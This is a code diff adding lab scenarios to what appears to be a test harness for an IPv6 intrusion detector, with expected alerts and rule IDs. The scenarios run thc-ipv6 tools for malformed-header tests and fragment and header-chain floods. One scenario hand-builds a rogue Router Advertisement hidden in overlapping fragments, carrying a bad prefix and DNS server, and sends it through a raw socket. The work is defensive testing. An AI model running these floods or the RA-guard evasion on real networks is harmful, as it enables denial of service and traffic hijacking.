@@ -1898,6 +1898,136 @@ def fuzz_mld2_report(lab: Lab) -> None:
     start_lan(lab)
     lab.limit_egress("a1", MLD_TBF)
     lab.run_tool("a1", ["atk6-fuzz_ip6", "-a", "-8", "eth0", "ff02::16"], 4)
+# -- malformed (issue 14) -----------------------------------------------------------------
+
+# a1's egress for the fragment flood: ~4000 first fragments/s of 470 bytes, so the 2 s
+# run sends ~8000, past the reassembly table's 4096 datagrams (evictions) but bounded.
+FRAG_FLOOD_TBF: Final = "tbf rate 16mbit burst 10000 limit 20000"
+# a1's egress for denial6's chain flood: ~60 packets/s of ~1500 bytes.
+CHAIN_FLOOD_TBF: Final = "tbf rate 800kbit burst 3000 limit 6000"
+_IMPL6: Final = ("atk6-implementation6", "-p")
+
+
+@scenario(
+    expect=["ipv6.malformed"],
+    sids=[1000902, 1000903, 1000906, 1000907, 1000909],
+    evidence=[
+        Evidence("Routing header from a1", frames(A1.mac, ext_header=43), 1),
+        Evidence("ping from :: sent by a1", frames(A1.mac, src_ips=["::"]), 1),
+        Evidence("fragments from a1", frames(A1.mac, fragment=True), 4),
+        Evidence("Destination Options from a1", frames(A1.mac, ext_header=60), 1),
+    ],
+    tools=["atk6-implementation6"],
+)
+def implementation6_malformed(lab: Lab) -> None:
+    """thc-ipv6's implementation checks against h1's link-local address, one test each.
+
+    ``atk6-implementation6 -p eth0 fe80::2:1 N`` (4 s each) for test 18 (source routing:
+    a Routing Header type 0, RFC 5095), 8 (128 Destination Options headers: a chain past
+    max_ext_headers), 2 (a 2 kB Hop-by-Hop header, fragmented so the ICMPv6 header is not
+    in the first fragment, RFC 7112) and 16 (overlapping fragments, RFC 5722); then
+    ``atk6-implementation6 -s :: -p eth0 fe80::2:1 1`` (a ping from the unspecified
+    address).
+    """
+    start_lan(lab)
+    for test in ("18", "8", "2", "16"):
+        lab.run_tool("a1", [*_IMPL6, "eth0", H1.link_local, test], 4)
+    lab.run_tool("a1", ["atk6-implementation6", "-s", "::", "-p", "eth0", H1.link_local, "1"], 4)
+
+
+@scenario(
+    expect=["ipv6.malformed"],
+    sids=[1000902, 1000908],
+    evidence=[Evidence("first fragments from a1", frames(A1.mac, fragment=True), 4500)],
+    tools=["atk6-fragmentation6"],
+)
+def fragmentation6_flood(lab: Lab) -> None:
+    """thc-ipv6's fragment tests against h1: two Fragment headers, then a flood of first
+    fragments that never complete.
+
+    ``atk6-fragmentation6 -p eth0 fe80::2:1 10`` (double one-shot fragments: a repeated
+    Fragment header, 2 s), then in a1 ``tc qdisc add dev eth0 root tbf rate 16mbit burst
+    10000 limit 20000`` and ``atk6-fragmentation6 -f -p eth0 fe80::2:1 19`` (only first
+    fragments, each with a new id, flooding; 2 s, ~8000 fragments): the reassembly table
+    evicts thousands of datagrams that never complete.
+    """
+    start_lan(lab)
+    lab.run_tool("a1", ["atk6-fragmentation6", "-p", "eth0", H1.link_local, "10"], 2)
+    lab.limit_egress("a1", FRAG_FLOOD_TBF)
+    lab.run_tool("a1", ["atk6-fragmentation6", "-f", "-p", "eth0", H1.link_local, "19"], 2)
+
+
+@scenario(
+    expect=["ipv6.malformed"],
+    sids=[1000902],
+    evidence=[Evidence("Hop-by-Hop chains from a1", frames(A1.mac, ext_header=0), 20)],
+    tools=["atk6-denial6"],
+)
+def denial6_header_chain(lab: Lab) -> None:
+    """thc-ipv6's denial6 test 4: a Hop-by-Hop header with router alert, 179 headers, a ping.
+
+    In a1 ``tc qdisc add dev eth0 root tbf rate 800kbit burst 3000 limit 6000``, then
+    ``atk6-denial6 eth0 fe80::2:1 4`` (5 s: ~3 s resolving h1, then it floods until
+    stopped; ~130 packets pass the shaper).
+    """
+    start_lan(lab)
+    lab.limit_egress("a1", CHAIN_FLOOD_TBF)
+    lab.run_tool("a1", ["atk6-denial6", "eth0", H1.link_local, "4"], 5)
+
+
+# Sends the Ethernet frames listed (hex, one per line) in argv[1] from eth0, 10 ms apart:
+# for packets no tool crafts. Raw sockets need no library.
+_SEND_FRAMES: Final = """
+import socket, sys, time
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+for line in open(sys.argv[1]):
+    s.send(bytes.fromhex(line.strip()))
+    time.sleep(0.01)
+print("sent", flush=True)
+"""
+
+
+@scenario(
+    expect=["ipv6.rogue_ra", "ipv6.ra_guard_evasion", "ipv6.malformed"],
+    sids=[1000101, 1000121, 1000903],
+    evidence=[Evidence("fragments from a1", frames(A1.mac, fragment=True), 3)],
+)
+def overlap_rogue_ra(lab: Lab) -> None:
+    """A rogue RA hidden in overlapping fragments (RFC 5722), sent from a1 three times.
+
+    No tool crafts it, so a1 sends the frames itself (``_SEND_FRAMES``, a raw socket):
+    fragment 0 of an echo request from fe80::a:1 to ff02::1, then an RA from fe80::a:1
+    (prefix 2001:db8:bad::/64, RDNSS 2001:db8:bad::53) in two 48-byte fragments with the
+    same id, whose fragment 0 overlaps the echo's. Hosts keeping the last copy read the RA;
+    v6sentry judges that reading as an RA.
+    """
+    from pcaps.generate import (  # the captures' packet builders; imported when used
+        ALL_NODES,
+        a6,
+        fragment_packets,
+        icmp6,
+        lan,
+        mac,
+        pio,
+        rdnss,
+        slla,
+    )
+
+    start_lan(lab)
+    src, m = a6(A1.link_local), mac(A1.mac)
+    body = struct.pack("!BBHII", 64, 0x08, 1800, 0, 0)
+    body += slla(m) + pio(a6("2001:db8:bad::")) + rdnss(a6("2001:db8:bad::53"))
+    rogue = icmp6(src, ALL_NODES, 134, body)
+    decoy = icmp6(src, ALL_NODES, 128, struct.pack("!HH", 7, 1) + bytes(len(rogue) - 8))
+    sent = []
+    for ident in (0x5722, 0x5723, 0x5724):
+        real = fragment_packets(src, ALL_NODES, 58, rogue, 48, ident)
+        fake = fragment_packets(src, ALL_NODES, 58, decoy, 48, ident)
+        sent += [lan(fake[0], m), *(lan(f, m) for f in real)]
+    listing = lab.workdir / "overlap_frames.hex"
+    listing.write_text("".join(f.hex() + "\n" for f in sent), encoding="ascii")
+    lab.sh("a1", sys.executable, "-c", _SEND_FRAMES, str(listing))
 
 
 # -- recording -----------------------------------------------------------------------
